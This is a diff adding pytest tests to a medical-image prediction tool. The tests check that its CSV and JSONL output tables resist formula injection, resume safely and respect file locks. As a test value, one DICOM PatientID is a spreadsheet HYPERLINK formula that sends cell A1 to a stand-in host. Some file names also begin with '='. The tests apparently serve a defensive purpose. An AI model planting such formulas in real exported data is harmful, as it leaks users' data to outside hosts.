@@ -1,22 +1,25 @@
 import csv
 import json
+import os
 from pathlib import Path
 
 import numpy as np
 import pytest
 import torch
+from filelock import FileLock
 from PIL import Image
 from typer.testing import CliRunner
 
 from parsecaps.cli import app
 from parsecaps.data.preparation import Preparation
 from parsecaps.models import ParseCaps
-from parsecaps.prediction.archive import write_patients, write_rows
+from parsecaps.prediction.archive import lock_file, write_patients, write_rows
 from parsecaps.prediction.bundle import Bundle
 from parsecaps.prediction.calibration import VALIDATION_FILE, Calibration, fit_temperature
 from parsecaps.prediction.files import find_files
 from parsecaps.prediction.predict import predict_files
 from parsecaps.prediction.predictions import Predictions
+from tests.data.image_files import grey, write_dicom
 from tests.data.make import folder_of_pictures, picture
 from tests.prediction.make import predict_one
 
@@ -184,3 +187,122 @@ def test_predict_writes_patients(bundle: Bundle, files: Path, tmp_path: Path) ->
     refused = CliRunner().invoke(app, [*command, str(out)])
     assert refused.exit_code == 2
     assert "give a .csv file of its own" in refused.stderr
+
+
+def odd_archive(folder: Path) -> int:
+    """Pictures with names that break tables; gives how many."""
+    folder.mkdir()
+    given = [b"=cmd.png", b"a\rb.png", b"c\nd.png", b"caf\xe9.png", b"e;=f.png", b'g,"h".png', b"[b].png"]
+    for i, name in enumerate(given):
+        try:
+            with open(os.path.join(os.fsencode(folder), name), "wb") as file:
+                Image.fromarray(picture(i)).save(file, format="PNG")
+        except OSError:
+            pytest.skip("this file system has only names in UTF-8")
+    write_dicom(folder / "z", grey(32, 32), PatientID='=HYPERLINK("http://x.y/?"&A1,"z")')
+    return len(given) + 1
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
+def test_any_name_is_a_row_and_can_be_resumed(
+    bundle: Bundle, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, suffix: str
+) -> None:
+    count = odd_archive(tmp_path / "archive")
+    monkeypatch.chdir(tmp_path / "archive")  # so that a cell begins with a name
+    inputs = sorted(os.listdir())
+    whole, cut, whose = (tmp_path / name for name in (f"whole{suffix}", f"cut{suffix}", "patients.csv"))
+    assert write_rows(whole, bundle, find_files(inputs)) == (count, 0)
+    content = whole.read_bytes()
+    assert len(content.decode("utf-8").splitlines()) == count + (suffix == ".csv")
+    for end in range(0, len(content) + 1, len(content) // 40):
+        cut.write_bytes(content[:end])
+        write_rows(cut, bundle, find_files(inputs))
+        assert images(cut) == images(whole)
+        assert len(cut.read_bytes().splitlines()) == len(content.splitlines())
+    assert write_patients(whose, whole) == count
+    for path in (whose, *([whole] if suffix == ".csv" else [])):
+        for row in rows_in(path):
+            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values()), row
+    found = rows_in(whose)
+    assert [row["file"] for row in found if not row["patient"]] == [
+        "'=cmd.png",
+        "[b].png",
+        "a\\x0db.png",
+        "c\\x0ad.png",
+        "caf\\xe9.png",
+        "e;'=f.png",
+        'g,"h".png',
+    ]
+    assert found[-1]["patient"] == '\'=HYPERLINK("http://x.y/?"&A1,"z")'
+    if suffix == ".jsonl":
+        assert images(whole) == inputs  # as they are on disk
+
+
+def test_a_table_from_before_names_were_written_safely_goes_on(bundle: Bundle, files: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out.csv"
+    for name in ("+x.png", "+y.png"):
+        Image.fromarray(picture(1)).save(tmp_path / name)
+    write_rows(out, bundle, find_files([tmp_path / "+x.png"]))
+    out.write_text(out.read_text(encoding="utf-8").replace("'+", "+"), encoding="utf-8")
+    assert write_rows(out, bundle, find_files([tmp_path / "+x.png", tmp_path / "+y.png"])) == (1, 0)
+
+
+def test_odd_names_of_classes(files: Path, tmp_path: Path) -> None:
+    model = ParseCaps.from_preset("tiny", num_classes=2, num_concepts=1, in_channels=3)
+    odd = Bundle(model, Preparation(size=32, channels=3), ("=1+1", "m\udce9lanome"), ("a\nb",))
+    out, whose = tmp_path / "out.csv", tmp_path / "patients.csv"
+    for _ in range(2):
+        write_rows(out, odd, find_files([files]))
+        write_patients(whose, out)
+    rows = rows_in(out)
+    assert len(rows) == 12
+    assert list(rows[0])[4:7] == ["probability:=1+1", "probability:m\\xe9lanome", "concept:a\\x0ab"]
+    for row in (*rows, *rows_in(whose)):
+        assert row["class"] in ("'=1+1", "m\\xe9lanome", "")
+    assert all(float(row["concept:a\\x0ab"]) > 0 for row in rows if not row["error"])
+
+
+def test_a_file_that_is_no_table_of_answers_stays_as_it_is(bundle: Bundle, files: Path, tmp_path: Path) -> None:
+    for name, content in {
+        "own.csv": "name,age\nann,71\nbob,3",
+        "line.csv": "no table",
+        "own.jsonl": '{"name": "ann"}\n{"name": "bob"}',
+        "list.jsonl": "[1]\n[2",
+        "text.jsonl": "hello",
+    }.items():
+        path = tmp_path / name
+        path.write_text(content, encoding="utf-8")
+        with pytest.raises(ValueError, match=f"{name} .*choose another file"):
+            write_rows(path, bundle, find_files([files]))
+        assert path.read_text(encoding="utf-8") == content
+    moved = Bundle(bundle.model, bundle.preparation, bundle.classes[::-1], bundle.concepts)
+    write_rows(tmp_path / "out.csv", bundle, find_files([files]))
+    with pytest.raises(ValueError, match="not a table of this model's answers"):
+        write_rows(tmp_path / "out.csv", moved, find_files([files]))
+
+
+def test_one_process_writes_a_table(bundle: Bundle, files: Path, tmp_path: Path) -> None:
+    out = tmp_path / "out.csv"
+    (tmp_path / "other.csv").symlink_to(out)
+    with FileLock(lock_file(out)):
+        for path in (out, tmp_path / "other.csv"):
+            with pytest.raises(ValueError, match=r"\.csv is being written by another process; wait for it, or choose"):
+                write_rows(path, bundle, find_files([files]))
+        assert not out.exists()
+    assert write_rows(out, bundle, find_files([files])) == (12, 1)
+    assert not lock_file(out).exists()
+
+
+def test_the_command_says_what_it_left_out(bundle: Bundle, files: Path, tmp_path: Path) -> None:
+    bundle.save(tmp_path / "model")
+    for name in (".DS_Store", "[red]notes.txt", "[b]"):
+        (files / name).write_bytes(b"x")
+    out, numbers = files / "answers.csv", tmp_path / "numbers.json"
+    for _ in range(2):  # neither the table nor its lock is named
+        command = ["predict", str(tmp_path / "model"), str(files), "--out", str(out), "--json", str(numbers)]
+        result = CliRunner().invoke(app, command)
+        assert result.exit_code == 0, result.stderr
+        last = result.stdout.splitlines()[-1]
+        assert last == "left out 3 files that are not images or are hidden: .DS_Store, [b], [red]notes.txt"
+        stored = json.loads(numbers.read_text(encoding="utf-8"))
+        assert stored["left_out"] == {"count": 3, "names": [".DS_Store", "[b]", "[red]notes.txt"]}
